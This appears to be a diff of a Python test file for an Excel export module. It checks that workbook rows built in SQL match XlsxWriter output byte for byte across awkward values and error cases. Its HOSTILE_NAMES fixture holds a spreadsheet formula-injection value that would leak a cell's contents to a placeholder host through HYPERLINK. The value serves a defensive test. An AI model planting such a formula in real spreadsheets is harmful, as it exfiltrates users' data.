@@ -7,13 +7,15 @@ import csv
 import datetime as dt
 import io
 import json
+import re
+import zipfile
 from pathlib import Path
 
 import duckdb
 import openpyxl
 import pytest
 
-from orchestration.lib.outputs import exports, spreadsheets
+from orchestration.lib.outputs import exports, sheet_xml, spreadsheets
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
@@ -180,25 +182,184 @@ def test_timestamps_are_excel_dates(exported, tmp_path, monkeypatch):
     assert sheet["B2"].value == dt.datetime(2025, 12, 1, 9, 30)
 
 
-def test_a_large_workbook_is_written_in_its_own_process_cell_for_cell_as_inline(tmp_path, monkeypatch):
-    """Past exports.WORKBOOK_PROCESS_CELLS the workbook is written in a worker process beside the
-    Parquet and CSV files: the same sheets and cells, and its errors still name file, table and cell."""
+def _cell_by_cell(con: duckdb.DuckDBPyConnection, dictionary: dict, path: Path) -> None:
+    """The workbook as XlsxWriter writes it cell by cell (the writer before the rows were built
+    in SQL): the reference the SQL-built rows must equal, character for character."""
+    import xlsxwriter
+
+    options = {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
+    workbook = xlsxwriter.Workbook(str(path), {**options, "strings_to_numbers": False})
+    formats = {
+        "bold": workbook.add_format({"bold": True}),
+        "time": workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"}),
+        "date": workbook.add_format({"num_format": "yyyy-mm-dd"}),
+        "wrap": workbook.add_format({"text_wrap": True, "valign": "top"}),
+    }
+    taken = {spreadsheets.README_SHEET}
+    placed = {
+        e["table"]: spreadsheets._sheet_names(e["table"].split(".", 1)[1], e["rows"], taken)
+        for e in dictionary["tables"]
+        if e["table"] not in spreadsheets.CSV_ONLY
+    }
+    spreadsheets._write_readme(workbook.add_worksheet(spreadsheets.README_SHEET), dictionary, placed, formats)
+    for entry in dictionary["tables"]:
+        if entry["table"] not in placed:
+            continue
+        schema, table = entry["table"].split(".", 1)
+        columns = spreadsheets._columns(con, schema, table)
+        result = con.execute(f'SELECT * FROM "{schema}"."{table}" ORDER BY ALL')
+        for name in placed[entry["table"]]:
+            sheet = workbook.add_worksheet(name)
+            for col, (column, _) in enumerate(columns):
+                sheet.write_string(0, col, column, formats["bold"])
+            sheet.freeze_panes(1, 0)
+            for row, values in enumerate(result.fetchmany(spreadsheets.XLSX_MAX_ROWS - 1), start=1):
+                for col, (value, (_, data_type)) in enumerate(zip(values, columns)):
+                    if value is None:
+                        continue
+                    if isinstance(value, list):
+                        sheet.write_string(row, col, "; ".join("" if v is None else str(v) for v in value))
+                    elif data_type == "BOOLEAN":
+                        sheet.write_boolean(row, col, value)
+                    elif isinstance(value, dt.date):
+                        if isinstance(value, dt.datetime) and value.tzinfo is not None:
+                            value = value.astimezone(dt.UTC).replace(tzinfo=None)
+                        time = isinstance(value, dt.datetime)
+                        sheet.write_datetime(row, col, value, formats["time" if time else "date"])
+                    elif data_type.startswith(("DECIMAL", "DOUBLE", "FLOAT")) or "INT" in data_type:
+                        sheet.write_number(row, col, float(value))
+                    else:
+                        sheet.write_string(row, col, str(value))
+    workbook.close()
+
+
+def _awkward_publication(path: Path) -> Path:
+    """Values whose cells are easy to get wrong: XML's and Excel's escapes, white space, control
+    characters, numbers needing all 16 digits or an exponent, dates and times (with a zone, and
+    around Excel's 29 February 1900), lists with a missing item, booleans, NULLs."""
+    with duckdb.connect(str(path)) as con:
+        con.execute("CREATE SCHEMA marts; CREATE SCHEMA audit")
+        con.execute(
+            "CREATE TABLE marts.awkward (k INTEGER, label VARCHAR, amount DOUBLE, cohort DECIMAL(12, 2), "
+            "big BIGINT, flag BOOLEAN, due DATE, seen_at TIMESTAMP, seen_at_utc TIMESTAMPTZ, names VARCHAR[], "
+            "scores DOUBLE[])"
+        )
+        texts = [
+            "plain",
+            "a & b < c > d \"quoted\" 'single'",
+            " leading space",
+            "trailing tab\t",
+            "\u00a0no-break space first",
+            "line\nbreak",
+            "carriage\rreturn",
+            "bell\x07 and unit\x1f separator",
+            "_x0041_ is not A",
+            "_x00zz_ is no escape",
+            "=1+1",
+            "",
+            "Café, Hove \u2014 \U0001f600",
+            "\x0b",
+        ]
+        numbers = [
+            0.1 + 0.2,
+            1e20,
+            1e-5,
+            123456789.123456789,
+            -2.5,
+            1 / 3,
+            5e-324,
+            61.5,
+            0.0,
+            3.0,
+            1e16,
+            12345678901234567.0,
+            -1e-7,
+            7.25,
+        ]
+        rows = []
+        for k, (text, number) in enumerate(zip(texts, numbers, strict=True)):
+            rows.append(
+                (
+                    k,
+                    text,
+                    number if k != 3 else None,
+                    round(number, 2) if abs(number) < 1e9 else None,
+                    2**53 + k,
+                    [True, False, None][k % 3],
+                    [dt.date(2025, 9, 1), dt.date(1900, 2, 28), dt.date(1900, 3, 1), None][k % 4],
+                    [dt.datetime(2025, 12, 1, 9, 30, 15, 250000), dt.datetime(1900, 1, 1, 12), None][k % 3],
+                    dt.datetime(2025, 6, 1, 23, 59, 59, tzinfo=dt.timezone(dt.timedelta(hours=1))),
+                    [["a", None, "b"], [], None, ["x & y"]][k % 4],
+                    [[1.5, None], [2.0], None][k % 3],
+                )
+            )
+        con.executemany("INSERT INTO marts.awkward VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", rows)
+        con.execute(
+            "CREATE TABLE audit.publications (publication_id VARCHAR, published_at TIMESTAMPTZ, "
+            "code_version VARCHAR, table_checksums VARCHAR)"
+        )
+        con.execute(
+            "INSERT INTO audit.publications VALUES ('pub-1', TIMESTAMPTZ '2025-12-01 09:30:00+00', 'abc', '{}')"
+        )
+    return path
+
+
+@pytest.mark.parametrize("rows_a_sheet", [None, 5])
+def test_workbook_rows_built_in_sql_are_what_xlsxwriter_writes_cell_by_cell(tmp_path, monkeypatch, rows_a_sheet):
+    """Every part of the package, every sheet byte for byte, equals XlsxWriter's own, also when
+    a table runs over several sheets; openpyxl reads back the values as published."""
+    if rows_a_sheet:
+        monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", rows_a_sheet)
+    published = _awkward_publication(tmp_path / "education.duckdb")
+    with duckdb.connect(str(published), read_only=True) as con:
+        dictionary = exports.data_dictionary(con, None)
+        spreadsheets.write_workbook(con, dictionary, tmp_path / "built.xlsx")
+        _cell_by_cell(con, dictionary, tmp_path / "reference.xlsx")
+    built, reference = zipfile.ZipFile(tmp_path / "built.xlsx"), zipfile.ZipFile(tmp_path / "reference.xlsx")
+    assert built.namelist() == reference.namelist()
+    sheets = [n for n in built.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert len(sheets) == (2 if not rows_a_sheet else 1 + 4)  # the read-me sheet, then awkward's
+    for name in built.namelist():
+        if name != "docProps/core.xml":  # it holds the time the workbook was written
+            assert built.read(name) == reference.read(name), name
+    assert not list(tmp_path.glob("*.layout"))
+    workbook = openpyxl.load_workbook(tmp_path / "built.xlsx")
+    rows = [r for n in workbook.sheetnames[1:] for r in workbook[n].iter_rows(min_row=2, values_only=True)]
+    by_key = {r[0]: r for r in rows}
+    assert by_key[1][1] == "a & b < c > d \"quoted\" 'single'" and by_key[2][1] == " leading space"
+    # Excel reads _xHHHH_ as the character and _x005F_ as "_"; openpyxl leaves the escapes as written
+    assert by_key[7][1] == "bell_x0007_ and unit_x001F_ separator" and by_key[8][1] == "_x005F_x0041_ is not A"
+    # 16 significant digits, as XlsxWriter writes numbers (Excel keeps 15)
+    assert (
+        by_key[0][2] == 0.3 and by_key[5][2] == 0.3333333333333333 and by_key[3][2] is None and by_key[0][9] == "a; ; b"
+    )
+    assert by_key[0][7] == dt.datetime(2025, 12, 1, 9, 30, 15, 250000)
+    assert by_key[0][8] == dt.datetime(2025, 6, 1, 22, 59, 59)  # in UTC
+    assert by_key[1][6] == dt.datetime(1900, 2, 28) and by_key[2][6] == dt.datetime(1900, 3, 1)
+
+
+def test_a_value_no_cell_can_hold_is_named_and_the_last_export_stays(tmp_path):
     published = _publication(tmp_path / "education.duckdb")
-    inline = exports.export_published(published, tmp_path / "inline", None)
-    monkeypatch.setattr(exports, "WORKBOOK_PROCESS_CELLS", 0)
-    worker = exports.export_published(published, tmp_path / "worker", None)
-
-    def cells(path):
-        workbook = openpyxl.load_workbook(path)
-        return {name: [[c.value for c in row] for row in workbook[name].iter_rows()] for name in workbook.sheetnames}
-
-    assert cells(worker.workbook) == cells(inline.workbook)
-    assert len(cells(worker.workbook)["dim_local_authority"]) == 1 + len(HOSTILE_NAMES) + 3
-    written = json.loads(worker.dictionary.read_text(encoding="utf-8"))
-    assert {t["table"]: t["xlsx_sheets"] for t in written["tables"]}["marts.mart_key_stage_2"] == ["mart_key_stage_2"]
-
+    first = exports.export_published(published, tmp_path / "exports", None)
+    before = first.workbook.read_bytes()
     with duckdb.connect(str(published)) as con:  # a cell too long for Excel, in a table the workbook holds
         con.execute("UPDATE marts.dim_local_authority SET la_name = repeat('x', 40000) WHERE old_la_code = '201'")
-    with pytest.raises(ValueError, match=r"education.xlsx: marts.dim_local_authority: row \d+, column la_name"):
-        exports.export_published(published, tmp_path / "worker", None)
-    assert cells(tmp_path / "worker" / spreadsheets.WORKBOOK_NAME) == cells(inline.workbook)  # the last export stays
+    with pytest.raises(
+        ValueError, match=r"education.xlsx: marts.dim_local_authority: row 1, column la_name: a text of 40,000"
+    ):
+        exports.export_published(published, tmp_path / "exports", None)
+    assert first.workbook.read_bytes() == before
+    with duckdb.connect(str(published)) as con:
+        con.execute("UPDATE marts.dim_local_authority SET la_name = 'City of London' WHERE old_la_code = '201'")
+        con.execute("UPDATE marts.mart_key_stage_2 SET ks2_rwm_expected_value = 'nan' WHERE old_la_code = '202'")
+    with pytest.raises(ValueError, match=r"marts.mart_key_stage_2: row 2, column ks2_rwm_expected_value: nan is not"):
+        exports.export_published(published, tmp_path / "exports", None)
+    assert first.workbook.read_bytes() == before
+
+
+def test_white_space_that_keeps_a_text_as_written_is_pythons_less_the_escaped_controls():
+    """XlsxWriter marks a text xml:space="preserve" by Python's ^\\s or \\s$ after escaping control
+    characters; sheet_xml's class (RE2 syntax) must hold exactly the white space left."""
+    as_python = re.sub(r"\\x\{([0-9a-f]+)\}", lambda m: f"\\U{int(m.group(1), 16):08x}", sheet_xml._SPACE_CLASS)
+    matched = {c for c in map(chr, range(0x110000)) if re.fullmatch(as_python, c)}
+    assert matched == {c for c in map(chr, range(0x110000)) if c.isspace()} - set(map(chr, sheet_xml._CONTROL))
